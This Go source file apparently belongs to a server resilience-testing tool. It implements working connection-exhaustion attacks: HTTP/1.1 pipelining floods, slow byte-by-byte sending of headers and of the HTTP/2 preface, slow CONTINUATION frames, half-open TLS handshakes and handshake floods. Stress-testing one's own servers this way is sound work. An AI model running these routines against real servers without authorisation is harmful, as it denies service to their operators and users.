package attacks

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

const (
	// slowPeriod is the pause of a slow attacker between two bytes.
	slowPeriod = 100 * time.Millisecond
	// maxHalfOpen bounds the handshakes that an attacker leaves open, over all
	// connections.
	maxHalfOpen = 1000
)

// connectionAttacks use TLS or HTTP/1.1, or stop before HTTP/2 has begun.
func connectionAttacks() []attackKind {
	return []attackKind{
		{name: "HTTP/1.1 pipelining", requests: true, run: pipeline},
		{name: "slow preface", bare: true, run: dribble([]string{"h2"}, func(*slot) string { return http2.ClientPreface })},
		{name: "slow headers, HTTP/1.1", requests: true, run: dribble(nil, http1Request)},
		{name: "slow headers, HTTP/2", requests: true, run: http2Attack(1000, connOptions{}, beginHeaders, func(p *peer) error {
			p.raw(http2.FrameContinuation, 0, p.id, []byte{0x82}) // :method again
			<-time.After(slowPeriod)
			return nil
		})},
		{name: "half of a handshake", bare: true, run: halfHandshake},
		{name: "handshakes", bare: true, run: handshakes},
	}
}

// http1Request is a request of HTTP/1.1.
func http1Request(s *slot) string {
	text := "GET " + s.Path + " HTTP/1.1\r\nHost: localhost\r\n"
	if s.Token != "" {
		text += "Authorization: Bearer " + s.Token + "\r\n"
	}
	return text + "\r\n"
}

// open opens a TLS connection with one of the protocols.
func (s *slot) open(ctx context.Context, protocols []string) (*tls.Conn, error) {
	tcp, err := s.connect(ctx, false)
	if err != nil {
		return nil, err
	}
	c := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols})
	if err := c.HandshakeContext(ctx); err != nil {
		tcp.Close()
		return nil, err
	}
	return c, nil
}

// pipeline sends many requests without waiting for answers.
func pipeline(ctx context.Context, s *slot) error {
	c, err := s.open(ctx, nil)
	if err != nil {
		return err
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	const n = 20
	text := []byte(strings.Repeat(http1Request(s), n))
	for s.pace(ctx, 100) {
		written, err := c.Write(text)
		s.stats.Bytes.Add(int64(written))
		if err != nil {
			return err
		}
		s.stats.Requests.Add(n)
	}
	return nil
}

// dribble writes a text byte by byte.
func dribble(protocols []string, text func(*slot) string) func(context.Context, *slot) error {
	return func(ctx context.Context, s *slot) error {
		c, err := s.open(ctx, protocols)
		if err != nil {
			return err
		}
		defer c.Close()
		for _, b := range []byte(text(s)) {
			if !sleep(ctx, slowPeriod) {
				return nil
			}
			if _, err := c.Write([]byte{b}); err != nil {
				return err
			}
			s.stats.Bytes.Add(1)
		}
		return nil
	}
}

// halfHandshake begins handshakes and does not finish them.
func halfHandshake(ctx context.Context, s *slot) error {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for s.pace(ctx, 300) {
		if len(held) >= maxHalfOpen/s.Conns {
			held[0].Close()
			held = held[1:]
		}
		c, err := s.connect(ctx, false)
		if err != nil {
			return err
		}
		held = append(held, c)
		// The beginning of a ClientHello of 512 bytes.
		n, err := c.Write(append([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, make([]byte, 100)...))
		s.stats.Bytes.Add(int64(n))
		if err != nil {
			return err
		}
	}
	return nil
}

// handshakes connects and closes the connection, again and again.
func handshakes(ctx context.Context, s *slot) error {
	for s.pace(ctx, 100) {
		c, err := s.open(ctx, []string{"h2"})
		if err != nil {
			return err
		}
		c.Close()
	}
	return nil
}
